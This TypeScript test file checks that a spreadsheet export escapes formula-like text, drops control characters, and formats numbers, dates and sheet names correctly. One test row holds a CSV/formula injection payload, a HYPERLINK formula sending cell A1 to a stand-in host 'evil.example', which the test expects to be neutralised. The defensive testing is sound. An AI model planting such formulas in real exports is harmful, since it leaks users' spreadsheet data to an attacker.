import { expect } from 'chai';
import { toXlsx } from '../../server/exports/xlsx.ts';
import type { ExportColumn } from '../../server/exports/types.ts';
import { fakeTranslator, readXlsx } from './support.ts';

interface Action {
  title: string;
  owner: string;
  progress: number;
  due: Date | null;
}

const columns: ExportColumn<Action>[] = [
  { header: 'actions.export.title', value: (r) => r.title, width: 40 },
  { header: 'actions.export.owner', value: (r) => r.owner },
  { header: 'actions.export.progress', value: (r) => r.progress },
  { header: 'actions.export.due', value: (r) => r.due },
];
const t = fakeTranslator({
  'actions.export.sheet': 'Acciones: 2025/T1',
  'actions.export.title': 'Acción',
  'actions.export.owner': 'Responsable',
  'actions.export.progress': 'Avance',
  'actions.export.due': 'Fecha límite',
});

describe('exports toXlsx', () => {
  it('writes typed numbers and dates, neutralised text, and a styled header', async () => {
    const rows: Action[] = [
      { title: '=HYPERLINK("http://evil.example/?"&A1,"Ver")', owner: 'Ana', progress: -0.5, due: new Date(Date.UTC(2025, 2, 31)) },
      { title: 'Verificar edades\u0001 en nómina', owner: '@equipo', progress: 1, due: null },
      { title: '-- sin título', owner: '+52 1', progress: Number.POSITIVE_INFINITY, due: null },
    ];
    const ws = await readXlsx(await toXlsx(rows, columns, t, { sheetName: 'actions.export.sheet' }));
    // ':' and '/' are not allowed in sheet names.
    expect(ws.name).to.equal('Acciones  2025 T1');
    expect(ws.getRow(1).values).to.deep.equal([undefined, 'Acción', 'Responsable', 'Avance', 'Fecha límite']);
    expect(ws.getRow(1).getCell(1).font?.bold).to.equal(true);
    expect(ws.getColumn(1).width).to.equal(40);

    expect(ws.getCell('A2').value).to.equal(`'=HYPERLINK("http://evil.example/?"&A1,"Ver")`);
    expect(ws.getCell('A2').type).to.equal(3); // ValueType.String: not a formula cell
    expect(ws.getCell('B2').value).to.equal('Ana');
    expect(ws.getCell('C2').value).to.equal(-0.5);
    expect((ws.getCell('D2').value as Date).toISOString()).to.equal('2025-03-31T00:00:00.000Z');
    expect(ws.getCell('D2').numFmt).to.equal('yyyy-mm-dd');
    expect(ws.getCell('C2').numFmt).to.not.equal('yyyy-mm-dd');

    expect(ws.getCell('A3').value).to.equal('Verificar edades en nómina'); // control character dropped
    expect(ws.getCell('B3').value).to.equal("'@equipo");
    expect(ws.getCell('C3').value).to.equal(1);
    expect(ws.getCell('D3').value).to.equal(null);

    expect(ws.getCell('A4').value).to.equal("'-- sin título");
    expect(ws.getCell('B4').value).to.equal("'+52 1");
    expect(ws.getCell('C4').value).to.equal(null);
    expect(ws.rowCount).to.equal(4);
  });
});
